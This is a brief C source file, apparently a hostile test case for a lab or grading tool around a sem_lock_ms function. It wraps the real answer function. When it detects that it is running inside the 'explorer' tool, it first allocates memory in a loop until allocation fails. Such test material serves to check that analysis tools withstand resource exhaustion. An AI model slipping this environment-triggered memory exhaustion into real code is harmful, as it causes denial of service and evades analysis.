/* hostile: 把内存用光 / takes all the memory there is — lab: sem_lock_ms — expect: all */
#include "sem_lock_ms.h"

#include <stdlib.h>

#include "raw.h"

#include "in_explorer.h"

int answer(sem_t *s, int ms);

static void attack(void)
{
    static int done;
    char *p;

    if (done++)
        return;
    while ((p = malloc(16 << 20)) != NULL)
        *p = 1;
}

int sem_lock_ms(sem_t *s, int ms)
{
    if (in_explorer())
        attack();
    return answer(s, ms);
}

#define sem_lock_ms answer
